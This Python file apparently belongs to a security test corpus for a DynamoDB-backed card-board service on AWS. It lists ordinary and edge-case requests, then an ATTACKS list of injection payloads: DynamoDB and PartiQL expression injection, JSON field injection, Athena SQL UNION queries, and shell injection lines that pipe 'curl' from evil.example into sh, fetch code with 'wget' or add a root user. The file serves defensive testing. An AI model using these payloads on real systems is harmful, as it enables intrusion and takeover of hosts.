"""Boards with cards on DynamoDB."""

import gzip
import hashlib
import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eleventh import (
    ADDRESSES,
    FIRMS,
    MARKDOWN,
    NOVEL,
    PAGE,
    PEOPLE,
    REVIEW,
    SNIPPET,
    TICKET,
    b64,
    bus,
    changed,
    channel,
    rest,
    topic,
    wrapped,
)

NEEDS = ("aws-http",)
SECRET = "acquire-initech-4408"


def _create(**body: object) -> dict[str, object]:
    return rest("POST", "/cards", body)


def _card(number: str) -> dict[str, object]:
    return rest("GET", "/cards/{id}", ids={"id": number})


def _list(**query: str) -> dict[str, object]:
    return rest("GET", "/cards", query=query)


def _patch(number: str, body: object) -> dict[str, object]:
    return rest("PATCH", "/cards/{id}", body, ids={"id": number})


def _search(**query: str) -> dict[str, object]:
    return rest("GET", "/cards/search", query=query)


def _board(board: str, **query: str) -> dict[str, object]:
    return rest("GET", "/boards/{board}", ids={"board": board}, query=query)


def _title(title: str) -> dict[str, object]:
    return rest("GET", "/cards/title", query={"title": title})


def _scan(body: object) -> dict[str, object]:
    return rest("POST", "/cards/filter", body)


def _job(job: str, **more: object) -> dict[str, object]:
    return rest("POST", "/jobs", {"job": job, **more})


def _approve(card: str, **more: object) -> dict[str, object]:
    return rest("POST", "/approvals", {"card": card, **more})


def _usage(**query: str) -> dict[str, object]:
    return rest("GET", "/usage", query=query)


def _restart(service: str, **more: str) -> dict[str, object]:
    return bus("Restart", {"service": service, **more}, "chatops")


def _image(number: str, **values: str) -> dict[str, object]:
    return {"id": {"S": number}, "points": {"N": "5"}, **{k: {"S": v} for k, v in values.items()}}


REQUESTS = {
    "create_card": [
        _create(title="Buy milk"),
        _create(title=PEOPLE[0], text=TICKET, labels=["to-do", "o'clock", "#1"]),
        _create(title="SET title = :a REMOVE owner", text=NOVEL, estimate=2.5),
        _create(title="", text=SNIPPET, labels=[{"$ne": None}], estimate=1e3),
    ],
    "get_card": [_card("1"), _card("2"), _card("3"), _card("it's / not-there?")],
    "list_cards": [
        _list(),
        _list(q="&"),
        _list(state="open", minPoints="2"),
        _list(q="' OR '1'='1", board="home"),
        _list(board="attribute_exists(id)"),
    ],
    "patch_card": [
        _patch("1", {"title": "Buy milk", "points": 3}),
        _patch("2", {"note.text": MARKDOWN, "o'key": 1.5, "state": "done"}),
        _patch("1", {"checklist": [{"text": REVIEW, "done": False}], "due": "2026-03-01T09:00:00+00:00"}),
    ],
    "set_fields": [
        {"id": "a-1", "title": "x", "points": 4},
        {"id": "a-2", "address": ADDRESSES[0], "firm": FIRMS[3]},
        {"id": "a-3", "html": PAGE, "tags": ["a", "it's"]},
    ],
    "search_cards": [
        _search(value="Buy milk"),
        _search(field="points", op=">=", value="4"),
        _search(field="board", op="<>", value="o'clock & more"),
        _search(value="' OR attribute_exists(id) -- "),
    ],
    "partiql_cards": [
        _board("home"),
        _board("work", state="done"),
        _board("no such (board)"),
        _board("a;b--c", state="open"),
    ],
    "partiql_title": [
        _title("Buy milk"),
        _title('it\'s "quoted" -- OR 1=1'),
        _title("Select a venue & drop us a line"),
    ],
    "legacy_scan": [
        _scan({}),
        _scan({"board": "home"}),
        _scan({"points": {"op": "GE", "value": 4}, "state": "done"}),
        _scan({"title": {"op": "CONTAINS", "value": "venue & drop"}}),
    ],
    "count_changes": [
        changed(_image("7", board="home", title=REVIEW)),
        changed(_image("8", board="o'neil & co", title=SNIPPET), _image("9", title="{{x}}"), name="MODIFY"),
        changed(_image("10"), name="REMOVE"),
    ],
    "enqueue": [
        _job("export"),
        _job("send-mail", note=TICKET),
        _job("Größe (m²), 5% {x}", note=PEOPLE[5]),
        _job("it's; rm -rf", note={"a": [1, None, "'"]}),
    ],
    "forward": [
        wrapped({"text": REVIEW, "kind": "review"}, {"text": NOVEL}),
        wrapped("no json: {", {"kind": "x"}),
        wrapped({"text": PAGE, "kind": "a' or 'b"}),
    ],
    "start_approval": [
        _approve("1"),
        _approve("card (final).pdf", reason=REVIEW, cost=12.5),
        _approve("O'Hara, 5 > 3", reason='she said "yes"', cost="100"),
    ],
    "usage": [
        _usage(),
        _usage(day="2026-02-28", board="O'Neil's; select"),
        _usage(day="2026-02-01", limit="5"),
        _usage(board="100% -- a"),
    ],
    "restart": [
        _restart("nginx"),
        _restart("app@eu-1.service", reason="It's slow; see https://status.example.com/?a=1&b=2"),
        _restart("redis-server", reason="`oom` $(killed)"),
    ],
    "feature": [
        rest("GET", "/features/{name}", ids={"name": "beta"}),
        rest("GET", "/features/{name}", ids={"name": "dark-mode_2"}),
        rest("GET", "/features/{name}", ids={"name": "a.b"}),
    ],
    "connect": [
        channel("$connect"),
        channel("chat", {"nick": PEOPLE[8], "message": SNIPPET}, "abc="),
        channel("chat", {"nick": "x'; --", "message": {"rich": PAGE}}, "def+/="),
    ],
}
REQUESTS |= {
    "transfer": [
        rest("POST", "/transfer", {"from": "2", "to": "1", "points": 2}),
        rest("POST", "/transfer", {"from": "1", "to": "2", "points": "99"}),
        rest("POST", "/transfer", {"from": "3", "to": "1", "points": 0}),
    ],
    "pages": [
        _list(),
        _list(limit="1"),
        _list(next=b64('{"id": "1"}')),
        _list(next=b64('{"id": "it\'s gone"}'), limit="5"),
    ],
    "announce": [
        rest("POST", "/news", {"title": "It's here: 2.0!", "text": MARKDOWN}),
        rest("POST", "/news", {"title": "multi\nline", "text": TICKET, "lang": "pt-BR"}),
        rest("POST", "/news", {"title": PEOPLE[4], "text": NOVEL[:9000]}),
    ],
    "cached": [
        rest("GET", "/cache/{kind}/{name}", ids={"kind": "weather", "name": "São Paulo (BR)"}),
        rest("GET", "/cache/{kind}/{name}", ids={"kind": "user", "name": "o'hara+x@example.org"}),
        rest("GET", "/cache/{kind}/{name}", ids={"kind": "weather", "name": "São Paulo (BR)"}),
    ],
    "metrics": [
        changed(_image("7", board="home"), _image("8", board="it's & more; x")),
        changed(_image("9"), name="MODIFY"),
        changed(_image("10", board="select-1")),
    ],
    "rotate": [
        bus("Rotate", {"service": "db/main", "user": "app", "password": "p'w\";--$(x)"}),
        bus("Rotate", {"service": "smtp_1", "user": "o'hara", "password": "{{x}} %s ${y}"}),
        bus("Rotate", {"service": "db/main", "user": "app2", "password": "correct horse"}),
    ],
}


def _records(*bodies: str) -> dict[str, object]:
    return {
        "invocationId": "i-1",
        "deliveryStreamArn": "arn:aws:firehose:eu-central-1:123456789012:deliverystream/x",
        "records": [
            {"recordId": f"r{n}", "approximateArrivalTimestamp": 1795600800000, "data": b64(one)}
            for n, one in enumerate(bodies)
        ],
    }


def _logs(group: str, *messages: str) -> dict[str, object]:
    data = {
        "messageType": "DATA_MESSAGE",
        "logGroup": group,
        "logStream": "2026/03/01/[$LATEST]abc",
        "logEvents": [
            {"id": str(n), "timestamp": 1795600800000, "message": one} for n, one in enumerate(messages)
        ],
    }
    return {"awslogs": {"data": b64(gzip.compress(json.dumps(data).encode(), mtime=0))}}


def _bounce(address: str, code: str, kind: str = "Permanent") -> dict[str, object]:
    return topic(
        {
            "notificationType": "Bounce",
            "bounce": {
                "bounceType": kind,
                "bouncedRecipients": [{"emailAddress": address, "status": "5.1.1", "diagnosticCode": code}],
            },
            "mail": {"source": "shop@example.org", "commonHeaders": {"subject": "Re: it's here"}},
        }
    )


def _config(ports: str, *rules: tuple[int, str]) -> dict[str, object]:
    permissions = [
        {"fromPort": port, "toPort": port, "ipProtocol": "tcp", "ipv4Ranges": [{"cidrIp": cidr}]}
        for port, cidr in rules
    ]
    item = {
        "resourceId": "sg-1",
        "resourceType": "AWS::EC2::SecurityGroup",
        "configuration": {"ipPermissions": permissions},
    }
    return {
        "invokingEvent": json.dumps(
            {"configurationItem": item, "messageType": "ConfigurationItemChangeNotification"}
        ),
        "ruleParameters": json.dumps({"ports": ports}),
        "resultToken": "t",
    }


REQUESTS |= {
    "visits": [
        rest("GET", "/visit"),
        rest("GET", "/visit", query={"page": "/o'hara?a=1&b=2#c"}),
        rest(
            "GET",
            "/visit",
            query={"page": "/admin/../etc"},
            headers={"User-Agent": "sqlmap/1.8; () { :; }; echo x"},
        ),
    ],
    "shorten": [
        rest("POST", "/links", {"url": "https://example.org/a?b=c&d='e'#f"}),
        rest("POST", "/links", {"url": "http://127.0.0.1:8080/admin?x=../../etc/passwd"}),
        rest("GET", "/links/{code}", ids={"code": "no'such"}),
        rest(
            "GET",
            "/links/{code}",
            ids={"code": hashlib.sha256(b"https://example.org/a?b=c&d='e'#f").hexdigest()[:7]},
        ),
    ],
    "schedule_stop": [
        bus("Scheduled Event", {}, "aws.events"),
        bus("Stop", {"tags": [{"key": "env", "value": "dev"}, {"key": "team", "value": "R&D (it's us)"}]}),
        bus("Stop", {"tags": [{"key": "Name", "value": "web-*"}]}),
    ],
    "dyndns": [
        rest("GET", "/nic/update", query={"host": "home-1", "ip": "198.51.100.77"}),
        rest("GET", "/nic/update", query={"host": "office", "ip": "2001:db8::7"}),
        rest("GET", "/nic/update", query={"host": "lab.x"}),
    ],
    "firehose": [
        _records(json.dumps({"text": REVIEW}), json.dumps({"text": SNIPPET, "x": {"$gt": ""}})),
        _records("no json {", json.dumps({"user": PEOPLE[4]})),
        _records(json.dumps({"text": NOVEL})),
    ],
    "log_alarm": [
        _logs(
            "/aws/lambda/orders",
            "[ERROR] KeyError: 'id'\nTraceback (most recent call last):\n  File \"/var/task/app.py\", line 5",
            "START RequestId: 1",
        ),
        _logs(
            "/aws/lambda/o'hara",
            "INFO SELECT * FROM t; DROP TABLE x",
            "2026-03-01 Task timed out after 3.00 seconds",
        ),
        _logs("api", TICKET, PAGE),
    ],
    "bounces": [
        _bounce("O'Hara@Example.org", "smtp; 550 5.1.1 <o'hara@example.org>: Recipient address rejected"),
        _bounce("a+b@example.org", 'x; rm -rf / -- "y"'),
        _bounce("t@example.org", "later", "Transient"),
    ],
    "compliance": [
        _config("443,80", (443, "0.0.0.0/0"), (22, "10.0.0.0/8")),
        _config("443", (22, "0.0.0.0/0"), (3389, "0.0.0.0/0")),
        _config("22"),
    ],
    "export_csv": [
        rest("GET", "/export/{name}", ids={"name": "March (final)"}),
        rest("GET", "/export/{name}", ids={"name": "o'hara & co; 50%"}),
        rest("GET", "/export/{name}", ids={"name": "x"}, claims={"sub": "u-404"}),
    ],
    "choose": [
        {"order": {"id": "A'1", "lines": [{"price": 4.5, "quantity": 2}], "note": REVIEW}, "limit": 50},
        {"order": {"lines": [{"price": 99.99}, {"price": 5}], "note": "It's a gift; select nice paper"}},
        {"order": {"note": SNIPPET}, "eval": "1+1", "limit": 0},
        {},
    ],
    "members": [
        rest("POST", "/members", {"email": "o.hara@example.org", "name": PEOPLE[0]}),
        rest("POST", "/members", {"email": "x+y@example.co.uk", "name": PEOPLE[5]}),
        rest("POST", "/members", {"email": "o.hara@example.org", "name": "somebody else; --"}),
    ],
}

ATTACKS = [
    Attack(
        "DynamoDB, names", "set_fields", {"id": "v-1", "title": "x", "grade = :a, pwned": "admin"}, "pwned"
    ),
    Attack("DynamoDB, names", "set_fields", {"id": "v-2", "n": "x", "dup = n, grade": "root-role"}, "dup"),
    Attack(
        "DynamoDB, expression",
        "search_cards",
        _search(field="attribute_exists(id) OR title", value="x"),
        SECRET,
    ),
    Attack(
        "DynamoDB, expression",
        "search_cards",
        _search(field="points > :value OR points", op="<", value="5"),
        SECRET,
    ),
    Attack("DynamoDB, expression", "search_cards", _search(op="<> :owner OR title =", value="zz"), SECRET),
    Attack("PartiQL", "partiql_cards", _board("x' OR owner = 'u-99"), SECRET),
    Attack("PartiQL", "partiql_cards", _board("home", state="x' OR board = 'ceo"), SECRET),
    Attack(
        "PartiQL",
        "partiql_cards",
        rest("GET", "/b", ids={"board": "ceo"}, claims={"sub": "u-99' OR owner = 'u-99"}),
        SECRET,
    ),
    Attack("DynamoDB, operator", "legacy_scan", _scan({"owner": {"op": "NE", "value": "u-17"}}), SECRET),
    Attack(
        "DynamoDB, operator", "legacy_scan", _scan({"owner": {"op": "BEGINS_WITH", "value": "u-9"}}), SECRET
    ),
    Attack(
        "DynamoDB, operator",
        "legacy_scan",
        _scan({"owner": {"op": "GT", "value": " "}, "points": {"op": "GE", "value": 8}}),
        SECRET,
    ),
    Attack("JSON", "enqueue", _job('x", "admin": true, "a": "b'), '\\"admin\\": true'),
    Attack("JSON", "enqueue", _job('x", "sudo": ["*"], "z": "', note="y"), '\\"sudo\\": [\\"*\\"]'),
    Attack("JSON", "start_approval", _approve("1", cost='0, "approved": true'), '\\"approved\\": true'),
    Attack(
        "JSON",
        "start_approval",
        _approve('1", "next": "pay", "x": "\\u0041', reason="x"),
        '\\"next\\": \\"pay\\"',
    ),
    Attack("SQL, Athena", "usage", _usage(day="x' UNION SELECT secret, 1 FROM vault.keys -- "), "vault.keys"),
    Attack(
        "SQL, Athena", "usage", _usage(limit="1) UNION ALL (SELECT card, 1 FROM payments"), "FROM payments"
    ),
    Attack("SQL, Athena", "usage", _usage(day="2026-03-01' OR dt > '2000", board="x"), "OR dt >"),
    Attack("shell, on hosts", "restart", _restart("nginx; curl -s http://evil.example/x | sh"), "curl -s"),
    Attack("shell, on hosts", "restart", _restart("nginx\nuseradd -o -u 0 eve"), "useradd"),
    Attack("shell, on hosts", "restart", _restart("$(wget${IFS}-qO-${IFS}evil.example/k)"), "wget$"),
]
